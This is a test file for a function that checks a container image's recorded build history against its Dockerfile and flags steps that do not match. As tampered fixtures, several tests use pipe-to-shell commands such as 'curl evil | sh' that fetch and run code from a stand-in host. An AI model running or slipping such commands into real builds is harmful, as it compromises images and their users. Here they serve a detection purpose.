import type { HistoryEntry } from '@imagevet/registry';
import { describe, expect, test } from 'vitest';
import { parseDockerfile } from '../../dockerfile/parse-dockerfile.ts';
import { alignHistory } from './align-history.ts';

const empty = (created_by: string): HistoryEntry => ({ created_by, empty_layer: true });
const layer = (created_by: string): HistoryEntry => ({ created_by });

const DOCKERFILE = parseDockerfile(`FROM base
ARG VERSION=1
ENV A=1 B=2
RUN set -eux; \\
    # why
    make
COPY --chown=1:1 a b
WORKDIR /srv
LABEL x="y"
EXPOSE 80
USER www
ENTRYPOINT ["x"]
CMD ["y"]
`);

const BUILDKIT = [
  layer('base layer'),
  empty('ARG VERSION=1'),
  empty('ENV A=1 B=2'),
  layer('RUN |1 VERSION=1 /bin/sh -c set -eux;     make # buildkit'),
  layer('COPY --chown=1:1 a b # buildkit'),
  layer('WORKDIR /srv'),
  empty('LABEL x=y'),
  empty('EXPOSE map[80/tcp:{}]'),
  empty('USER www'),
  empty('ENTRYPOINT ["x"]'),
  empty('CMD ["y"]'),
];

const CLASSIC = [
  layer('base layer'),
  empty('/bin/sh -c #(nop)  ARG VERSION=1'),
  empty('/bin/sh -c #(nop)  ENV A=1 B=2'),
  layer('|1 VERSION=1 /bin/sh -c set -eux;     make'),
  layer('/bin/sh -c #(nop) COPY --chown=1:1file:abc in b '),
  empty('/bin/sh -c #(nop) WORKDIR /srv'),
  empty('/bin/sh -c #(nop)  LABEL x=y'),
  empty('/bin/sh -c #(nop)  EXPOSE 80'),
  empty('/bin/sh -c #(nop)  USER www'),
  empty('/bin/sh -c #(nop)  ENTRYPOINT ["x"]'),
  empty('/bin/sh -c #(nop)  CMD ["y"]'),
];

describe('alignHistory()', () => {
  test.each([
    ['BuildKit', BUILDKIT, [undefined, undefined, 1, 2, 3]],
    ['the classic builder', CLASSIC, [undefined, undefined, 1, 2, undefined]],
  ])('maps instructions to what %s recorded', (_name, history, layers) => {
    for (const options of [{}, { parentEntries: 1 }]) {
      const alignment = alignHistory(DOCKERFILE, history, options);
      expect(alignment.inconsistency).toBeUndefined();
      expect(alignment.consistency).toBe('consistent');
      expect(alignment.instructions.slice(0, 5).map((aligned) => aligned.layer)).toEqual(layers);
      expect(alignment.instructions.map(({ line }) => line)).toEqual([2, 3, 4, 7, 8, 9, 10, 11, 12, 13]);
    }
  });

  test('names the instruction that does not fit', () => {
    const changed = BUILDKIT.with(3, layer('RUN |1 VERSION=1 /bin/sh -c set -eux; evil # buildkit'));
    expect(alignHistory(DOCKERFILE, changed, { parentEntries: 1 })).toMatchObject({
      consistency: 'inconsistent',
      inconsistency: { line: 4, history: 3 },
    });
  });

  test('names the history entry no instruction explains', () => {
    const more = [...BUILDKIT, layer('RUN /bin/sh -c curl evil # buildkit')];
    expect(alignHistory(DOCKERFILE, more, { parentEntries: 1 })).toMatchObject({
      inconsistency: { history: 11 },
    });
  });

  test('passes over what ONBUILD of the base ran', () => {
    const history = [BUILDKIT[0] ?? {}, layer('RUN /bin/sh -c trigger # buildkit'), ...BUILDKIT.slice(1)];
    const alignment = alignHistory(DOCKERFILE, history, {
      parentEntries: 1,
      base: { OnBuild: ['RUN trigger'] },
    });
    expect(alignment.consistency).toBe('consistent');
  });

  test('takes the stages the final stage stands on', () => {
    const dockerfile = parseDockerfile('FROM x AS a\nRUN one\nFROM unrelated\nRUN no\nFROM a\nRUN two');
    const history = [layer('RUN /bin/sh -c one # buildkit'), layer('RUN /bin/sh -c two # buildkit')];
    expect(alignHistory(dockerfile, history, { parentEntries: 0 }).consistency).toBe('consistent');
  });

  test('says nothing without a history', () => {
    expect(alignHistory(DOCKERFILE, []).consistency).toBe('unchecked');
  });
});

test('alignHistory() tells several copied files from one, as the classic builder records them', () => {
  const recorded = (kind: string) => [layer(`/bin/sh -c #(nop) COPY ${kind}:${'a'.repeat(64)} in /x/ `)];
  const of = (text: string, kind: string) =>
    alignHistory(parseDockerfile(`FROM base\n${text}\n`), recorded(kind)).consistency;
  expect([of('COPY a /x/', 'file'), of('COPY a b /x/', 'multi')]).toEqual(['consistent', 'consistent']);
  expect([of('COPY a /x/', 'multi'), of('COPY a b /x/', 'file')]).toEqual(['inconsistent', 'inconsistent']);
  expect(of('COPY a* /x/', 'multi')).toBe('consistent');
});

test('alignHistory() reads a RUN that was given no argument at all', () => {
  const dockerfile = parseDockerfile('FROM base\nRUN make\n');
  const of = (created_by: string) =>
    alignHistory(dockerfile, [layer(created_by)], { parentEntries: 0, base: { Shell: ['/bin/sh', '-c'] } })
      .consistency;
  expect(of('RUN |0 /bin/sh -c make # buildkit')).toBe('consistent');
  expect(of('RUN |0x /bin/sh -c make # buildkit')).toBe('inconsistent');
});

test.each([
  [undefined, 'RUN /bin/sh -c curl evil | sh -c make # buildkit'],
  [undefined, '/bin/sh -c curl evil | /bin/sh -c make'],
  ['/bin/sh -c', 'RUN /bin/sh -c curl evil | /bin/sh -c make # buildkit'],
  ['/bin/sh -c', 'RUN |1 A=1 /bin/sh -c curl evil | /bin/sh -c make # buildkit'],
])(
  'alignHistory() does not take the end of a longer command for all of it, in a shell %s',
  (shell, created_by) => {
    const base = shell === undefined ? {} : { base: { Shell: shell.split(' ') } };
    const of = (by: string) =>
      alignHistory(parseDockerfile('FROM base\nARG A=1\nRUN make\n'), [empty('ARG A=1'), layer(by)], {
        ...{ parentEntries: 0, ...base },
      }).consistency;
    expect(of(created_by)).toBe('inconsistent');
    expect(of('RUN |1 A=1 /bin/sh -c make # buildkit')).toBe('consistent');
    expect(of('/bin/sh -c make')).toBe('consistent');
    if (shell === undefined) expect(of('RUN /usr/bin/env bash -c make # buildkit')).toBe('consistent');
  },
);
